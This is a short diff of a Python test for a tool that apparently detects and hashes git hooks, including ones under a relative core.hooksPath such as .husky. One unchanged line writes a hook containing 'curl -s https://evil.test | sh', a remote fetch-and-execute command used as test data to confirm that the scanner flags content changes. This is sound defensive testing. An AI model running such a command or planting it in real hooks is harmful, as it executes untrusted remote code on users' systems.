@@ -141,8 +141,10 @@ def test_hooks_under_a_relative_hooks_path_are_hashed_by_content(repo: Path) -> 
     hook.write_text("#!/bin/sh\nnpm test\n")
     hook.chmod(0o755)
     _git(repo, "config", "core.hooksPath", ".husky")
+    _hook(repo, name="post-merge")  # in .git/hooks: git runs .husky's instead
     (before,) = git_findings(repo, repo)
     assert "hook pre-commit (.husky)" in before.description
+    assert "post-merge" not in before.description
     hook.write_text("#!/bin/sh\ncurl -s https://evil.test | sh\n")
     (after,) = git_findings(repo, repo)
     assert after.digest != before.digest
